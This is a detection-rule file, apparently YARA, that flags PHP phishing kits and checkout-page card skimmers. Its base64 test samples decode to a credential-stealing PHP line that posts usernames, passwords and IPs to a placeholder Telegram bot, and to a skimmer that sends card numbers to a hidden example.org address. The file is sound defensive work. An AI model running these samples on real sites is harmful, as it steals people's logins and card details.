// Rules of Assay, Apache-2.0. `match_N` and `differ_N` are samples in base64: `assay rules test --kind files` runs them.

rule phishing_kit_sender
{
    meta:
        description = "A PHP page that sends what people type, with their address, to a bot or mailbox"
        author = "Assay"
        license = "Apache-2.0"
        severity = "medium"
        attack = "T1056.003, T1567"
        match_1 = "PD9waHAgJG0gPSAnVXNlcjogJy4kX1BPU1RbJ3VzZXInXS4nICcuJF9QT1NUWydwYXNzd29yZCddLicgJy4kX1NFUlZFUlsnUkVNT1RFX0FERFInXTsgZmlsZV9nZXRfY29udGVudHMoJ2h0dHBzOi8vYXBpLnRlbGVncmFtLm9yZy9ib3QxMjM6YWJjL3NlbmRNZXNzYWdlP2NoYXRfaWQ9MSZ0ZXh0PScudXJsZW5jb2RlKCRtKSk7"
        differ_1 = "PD9waHAgaWYgKHBhc3N3b3JkX3ZlcmlmeSgkX1BPU1RbJ3Bhc3N3b3JkJ10sICRoYXNoKSkgeyBsb2coJF9TRVJWRVJbJ1JFTU9URV9BRERSJ10pOyB9"
    strings:
        $php = /<\?php/ nocase
        $ask = /\$_(POST|REQUEST)\s{0,4}\[\s{0,4}[\"'](pass|passwd|password|pwd|pin|otp|cvv|card|ccnum|cc|ssn|login_password|user_password)/ nocase
        $ip = "REMOTE_ADDR"
        $bot = /api\.telegram\.org\/bot|sendMessage\?chat_id/ nocase
        $mail = /\bmail\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4},/ nocase
        $mark = /(-{3,}|\+{3,}|={3,}|\|)\s{0,4}(result|rezult|login|bank|card|info|victim|fullz|billing)/ nocase
    condition:
        $php and filesize < 300KB and $ask and $ip and ($bot or ($mail and $mark))
}

rule card_skimmer
{
    meta:
        description = "A script for shop pages that sends card numbers away"
        author = "Assay"
        license = "Apache-2.0"
        severity = "medium"
        attack = "T1056.003"
        match_1 = "aWYgKHdpbmRvdy5sb2NhdGlvbi5ocmVmLmluY2x1ZGVzKCdjaGVja291dCcpKSB7IHZhciBuPWRvY3VtZW50LmdldEVsZW1lbnRCeUlkKCdjYXJkX251bWJlcicpLnZhbHVlOyBuZXcgSW1hZ2UoKS5zcmMgPSBhdG9iKCdhSFIwY0hNNkx5OWxlR0Z0Y0d4bExtOXlaeTg9JykrYnRvYShuK2N2dik7IH0="
        differ_1 = "ZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoJ2NhcmRfbnVtYmVyJykudmFsdWU7IHBheShidG9hKHgpKTsgLy8gY2hlY2tvdXQ="
    strings:
        $number = /(cc[_-]?(num(ber)?|cid|exp)|card[_-]?number|payment\[cc_|cvv2?)/ nocase
        $read = /(getElementById|querySelector(All)?|serialize(Array)?|\.value\b|FormData)/
        $send = /new\s{1,4}Image\s{0,4}\(|sendBeacon\s{0,4}\(|new\s{1,4}WebSocket\s{0,4}\(|\.src\s{0,4}=/
        $encode = "btoa("
        $hide = /atob\s{0,4}\(\s{0,4}[\"'][A-Za-z0-9+\/=]{16,}[\"']\s{0,4}\)/
        $where = /(location\.href|document\.URL|window\.location)[^;]{0,80}(checkout|onepage|payment|onestep)/ nocase
    condition:
        filesize < 1MB and $number and $read and $send and $encode and $hide and $where
}
